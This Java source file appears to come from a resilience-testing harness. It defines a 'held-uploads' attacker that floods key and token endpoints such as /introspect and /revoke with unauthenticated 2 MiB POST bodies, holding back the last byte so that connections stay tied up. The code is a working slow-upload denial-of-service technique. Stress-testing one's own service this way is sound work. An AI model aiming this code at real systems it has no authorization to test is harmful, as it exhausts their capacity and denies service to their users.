package io.keylapse.attack.kind;

import io.keylapse.attack.wire.Attacker;
import io.keylapse.attack.wire.Line;
import io.keylapse.attack.wire.Requests;
import io.keylapse.attack.wire.Target;
import io.keylapse.attack.wire.Turns;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/** Uploads 2 MiB without a credential, and holds back the last byte. */
record HeldUploads(int connections) implements Attacker {
    private static final int SIZE = 2 << 20;
    private static final int CHUNK = 0x8000;
    private static final String CHUNK_SIZE = Integer.toHexString(CHUNK);
    private static final Duration HOLD = Duration.ofSeconds(4);
    private static final List<String> PATHS = List.of(
            "/v1/self/renew", "/v1/keys", "/v1/checks", "/introspect", "/introspect/", "/revoke", "/check", "/n");

    @Override
    public String name() {
        return "held-uploads";
    }

    @Override
    public long bytes() {
        return 8L << 30;
    }

    @Override
    public void attack(Target target) throws InterruptedException {
        ByteBuffer whole = Requests.shared(" ".repeat(SIZE - 1));
        ByteBuffer chunked =
                Requests.shared((CHUNK_SIZE + "\r\n" + " ".repeat(CHUNK) + "\r\n").repeat(SIZE / CHUNK) + "0\r\n\r");
        var paths = new Turns<>(PATHS);
        while (target.goesOn()) {
            var lines = new ArrayList<>(target.connect(connections));
            for (int i = 0; i < lines.size(); i += 2) {
                String path = paths.get();
                lines.get(i).send(head(path, "Content-Length: " + SIZE), whole.duplicate());
                if (i + 1 < lines.size()) {
                    lines.get(i + 1).send(head(path, "Transfer-Encoding: chunked"), chunked.duplicate());
                }
            }
            target.hold(lines, HOLD);
            lines.forEach(Line::reset);
        }
    }

    private static ByteBuffer head(String path, String framing) {
        return Requests.bytes(Requests.head("POST", path, "Content-Type: application/json", framing) + "\r\n");
    }
}
